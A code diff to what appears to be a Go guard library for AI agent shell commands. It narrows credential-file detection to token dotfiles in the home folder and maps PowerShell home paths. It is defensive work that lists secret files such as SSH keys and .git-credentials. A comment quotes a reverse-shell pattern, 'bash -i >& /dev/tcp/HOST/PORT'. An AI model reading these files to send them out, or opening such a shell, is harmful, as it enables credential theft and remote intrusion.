@@ -5,6 +5,7 @@ import (
 	"strings"
 
 	"github.com/agenthooks/agenthooks/guard/shell"
+	"github.com/agenthooks/agenthooks/guard/winshell"
 )
 
 // RuleExfiltration denies a command that reads credentials or secrets and sends data off the
@@ -38,9 +39,7 @@ func isSecretFile(p string) bool {
 		strings.HasSuffix(base, ".pfx") || strings.HasSuffix(base, ".keystore") || strings.HasSuffix(base, ".jks"):
 		return true
 	case base == "credentials" || base == "credentials.json" || base == "secrets.yaml" || base == "secrets.yml" ||
-		base == "service-account.json" || base == ".htpasswd" || base == "id_rsa" || base == "id_ed25519" || base == "id_ecdsa",
-		// tools' tokens and passwords in their own dotfiles
-		base == ".npmrc" || base == ".pypirc" || base == ".netrc" || base == "_netrc" || base == ".git-credentials" || base == ".pgpass":
+		base == "service-account.json" || base == ".htpasswd" || base == "id_rsa" || base == "id_ed25519" || base == "id_ecdsa":
 		return true
 	}
 	return browserSecret(p)
@@ -210,6 +209,7 @@ func (pr *protector) secretPath(v, cwd string) string {
 	if v == "" || strings.HasPrefix(v, "-") {
 		return ""
 	}
+	v = winshell.PosixHome(v, pr.ctx.Home) // $env:USERPROFILE\.aws\credentials from PowerShell
 	abs, ok := absolute(v, cwd)
 	if !ok {
 		abs = v
@@ -226,10 +226,24 @@ func (pr *protector) secretPath(v, cwd string) string {
 			return p.What
 		}
 	}
-	if isSecretFile(abs) {
+	if isSecretFile(abs) || pr.homeTokenFile(abs) {
 		return path.Base(abs)
 	}
 	return ""
+}
+
+// homeTokenFile reports whether p is a tool's own dotfile of tokens and passwords in the home
+// folder (~/.npmrc, ~/.pypirc, ~/.netrc, ~/.git-credentials, ~/.pgpass); a project's .npmrc
+// names its registries and is committed with it.
+func (pr *protector) homeTokenFile(p string) bool {
+	if pr.ctx.Home == "" || path.Dir(p) != path.Clean(pr.ctx.Home) {
+		return false
+	}
+	switch path.Base(p) {
+	case ".npmrc", ".pypirc", ".netrc", "_netrc", ".git-credentials", ".pgpass", ".my.cnf":
+		return true
+	}
+	return false
 }
 
 // RuleReverseShell denies a shell connected to another machine: bash -i >& /dev/tcp/HOST/PORT,
